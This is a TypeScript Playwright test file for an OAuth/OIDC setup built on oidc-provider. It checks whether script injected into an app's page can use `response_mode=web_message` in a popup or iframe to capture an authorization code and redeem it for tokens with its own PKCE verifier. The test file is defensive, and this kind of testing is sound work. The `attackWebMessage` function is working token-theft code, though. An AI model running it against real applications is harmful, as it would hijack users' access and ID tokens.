/**
 * RFC 10017's "acquisition of new tokens" with `response_mode=web_message` (OAuth 2.0 Web
 * Message Response Mode, individual draft 01, as oidc-provider implements it): script in the
 * app's page runs its own authorization request (its own PKCE verifier, the app's client_id and
 * redirect URI) in a popup or an iframe, and the provider posts the response to the opener or
 * parent, which is the app's page. Neither the worker nor the host's callback guard sees that
 * response: the redirect URI is never loaded. So the test shows that only the provider's
 * configuration stops it: with the client restricted to `response_modes: ['query']` no code is
 * issued; with the client not restricted the attacker redeems one. The attack table in
 * docs/security.md names these tests.
 */
import type { Page } from '@playwright/test';
import { DEMO_CLIENTS } from '../../demo/provider.js';
import { startAppServer } from './harness/app-server.js';
import { type Env, expect, signIn, startEnv, stopEnv, test } from './harness/env.js';
import { type ProviderTap, tapProvider } from './harness/provider-record.js';

interface WebMessageAttack {
  authorizationEndpoint: string;
  tokenEndpoint: string;
  clientId: string;
  redirectUri: string;
  via: 'popup' | 'iframe';
  waitMs: number;
}

interface WebMessageOutcome {
  /** Every message the attacker's listener received (origin and data). */
  messages: { origin: string; data: unknown }[];
  codes: string[];
  redeemed: { status: number; body: string }[];
  verifier: string;
}

/** The attacker: runs in the app page, listens for the provider's message and redeems any code. */
function attackWebMessage(input: WebMessageAttack): Promise<WebMessageOutcome> {
  return (async () => {
    const b64 = (bytes: ArrayBuffer | Uint8Array) =>
      btoa(String.fromCharCode(...new Uint8Array(bytes)))
        .replace(/\+/g, '-')
        .replace(/\//g, '_')
        .replace(/=+$/, '');
    const verifier = b64(crypto.getRandomValues(new Uint8Array(32)));
    const challenge = b64(
      await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier)),
    );
    const messages: WebMessageOutcome['messages'] = [];
    const codes = new Set<string>();
    const listener = (event: MessageEvent) => {
      messages.push({ origin: event.origin, data: JSON.parse(JSON.stringify(event.data ?? null)) });
      const code = (event.data as { response?: { code?: unknown } } | null)?.response?.code;
      if (typeof code === 'string') codes.add(code);
    };
    window.addEventListener('message', listener);
    const url = new URL(input.authorizationEndpoint);
    url.search = new URLSearchParams({
      response_type: 'code',
      client_id: input.clientId,
      redirect_uri: input.redirectUri,
      scope: 'openid',
      state: `attacker-${Math.random()}`,
      nonce: `attacker-nonce-${Math.random()}`,
      code_challenge: challenge,
      code_challenge_method: 'S256',
      response_mode: 'web_message',
    }).toString();
    let popup: Window | null = null;
    let frame: HTMLIFrameElement | undefined;
    if (input.via === 'popup') {
      popup = window.open(url.href, '_blank');
    } else {
      frame = document.createElement('iframe');
      frame.src = url.href;
      document.body.append(frame);
    }
    const deadline = Date.now() + input.waitMs;
    while (Date.now() < deadline && messages.length === 0) {
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    // A little longer, for any further message.
    await new Promise((resolve) => setTimeout(resolve, 500));
    window.removeEventListener('message', listener);
    const redeemed: WebMessageOutcome['redeemed'] = [];
    for (const code of codes) {
      const response = await fetch(input.tokenEndpoint, {
        method: 'POST',
        body: new URLSearchParams({
          grant_type: 'authorization_code',
          code,
          redirect_uri: input.redirectUri,
          client_id: input.clientId,
          code_verifier: verifier,
        }),
      });
      redeemed.push({ status: response.status, body: await response.text() });
    }
    popup?.close();
    frame?.remove();
    return { messages, codes: [...codes], redeemed, verifier };
  })();
}

/** oidc-provider 9's flag for the draft it implements (lib/helpers/features.js). */
const WEB_MESSAGE = { enabled: true, ack: 'individual-draft-01' };

/** A world whose provider offers `web_message`, with the app's client restricted or not. */
async function startWebMessageEnv(restricted: boolean): Promise<Env> {
  const app = await startAppServer();
  return startEnv(
    {
      config: { features: { webMessageResponseMode: WEB_MESSAGE } },
      clients: restricted
        ? [
            {
              client_id: DEMO_CLIENTS.spa.clientId,
              application_type: 'web',
              token_endpoint_auth_method: 'none',
              grant_types: ['authorization_code', 'refresh_token'],
              response_types: ['code'],
              // The worker asks for query; nothing else is this client's.
              response_modes: ['query'],
              redirect_uris: [`${app.origin}/callback`],
              post_logout_redirect_uris: [`${app.origin}/`],
            },
          ]
        : [],
    },
    app,
  );
}

async function runWebMessageAttack(
  env: Env,
  page: Page,
  via: 'popup' | 'iframe',
): Promise<WebMessageOutcome> {
  const disco = (await (
    await fetch(`${env.op.issuer}/.well-known/openid-configuration`)
  ).json()) as {
    authorization_endpoint: string;
    token_endpoint: string;
    response_modes_supported: string[];
  };
  // The provider does advertise it: this is the configuration the tests are about.
  expect(disco.response_modes_supported).toContain('web_message');
  return page.evaluate(attackWebMessage, {
    authorizationEndpoint: disco.authorization_endpoint,
    tokenEndpoint: disco.token_endpoint,
    clientId: env.app.config!.clientId,
    redirectUri: env.app.config!.redirectUri,
    via,
    waitMs: 15_000,
  });
}

/** Codes the provider issued while `run` ran (oidc-provider's `authorization_code.saved`). */
async function codesIssuedDuring<T>(env: Env, run: () => Promise<T>): Promise<[T, number]> {
  let issued = 0;
  const count = () => {
    issued++;
  };
  env.op.provider.on('authorization_code.saved', count);
  try {
    return [await run(), issued];
  } finally {
    env.op.provider.off('authorization_code.saved', count);
  }
}

for (const restricted of [true, false]) {
  test.describe(restricted ? 'client restricted to query' : 'client not restricted', () => {
    let env: Env;
    let tap: ProviderTap;
    test.beforeAll(async () => {
      env = await startWebMessageEnv(restricted);
    });
    test.afterAll(async () => {
      await stopEnv(env);
    });
    test.beforeEach(() => {
      tap = tapProvider(env.op);
    });
    test.afterEach(() => {
      tap.remove();
    });

    const attackerTokenRequests = (verifier: string) =>
      tap.hits.filter((hit) => hit.route === 'token' && hit.params.code_verifier === verifier);

    if (restricted) {
      test('ATTACK-web-message-restricted: web_message in a popup and an iframe yields no code when the provider restricts the client to query', async ({
        page,
      }) => {
        await signIn(page, env, 'alice');
        for (const via of ['popup', 'iframe'] as const) {
          const [outcome, issued] = await codesIssuedDuring(env, () =>
            runWebMessageAttack(env, page, via),
          );
          expect(issued, `${via}: codes the provider issued`).toBe(0);
          expect(outcome.codes, `${via}: codes the attacker received`).toEqual([]);
          expect(outcome.redeemed, via).toEqual([]);
          expect(attackerTokenRequests(outcome.verifier), via).toEqual([]);
          // The provider refused the mode, and said so by the mode asked for: the listener got
          // exactly that error, so it was listening and the refusal is the provider's.
          expect(outcome.messages, via).toEqual([
            {
              origin: new URL(env.op.issuer).origin,
              data: {
                type: 'authorization_response',
                response: expect.objectContaining({ error: 'invalid_request' }),
              },
            },
          ]);
          expect(JSON.stringify(outcome.messages), via).not.toContain('"code"');
        }
        expect(await page.evaluate(() => window.identity.getUser())).toMatchObject({
          state: 'authenticated',
          user: { sub: 'alice' },
        });
      });
    } else {
      test('ATTACK-web-message-unrestricted: without the provider restricting the client, web_message in a popup and an iframe hands the attacker a code it redeems (the worker cannot stop it)', async ({
        page,
      }) => {
        await signIn(page, env, 'alice');
        for (const via of ['popup', 'iframe'] as const) {
          const [outcome, issued] = await codesIssuedDuring(env, () =>
            runWebMessageAttack(env, page, via),
          );
          expect(issued, via).toBe(1);
          expect(outcome.codes, via).toHaveLength(1);
          expect(outcome.messages[0]?.origin, via).toBe(new URL(env.op.issuer).origin);
          // The attacker redeemed it with its own verifier: tokens for the app's client.
          expect(
            outcome.redeemed.map((r) => r.status),
            via,
          ).toEqual([200]);
          expect(JSON.parse(outcome.redeemed[0]!.body), via).toMatchObject({
            access_token: expect.any(String),
            id_token: expect.any(String),
          });
          expect(attackerTokenRequests(outcome.verifier), via).toHaveLength(1);
          // The response never went to the redirect URI: the host saw no callback request.
          expect(env.app.hits.get('/callback'), via).toBeUndefined();
        }
      });
    }
  });
}
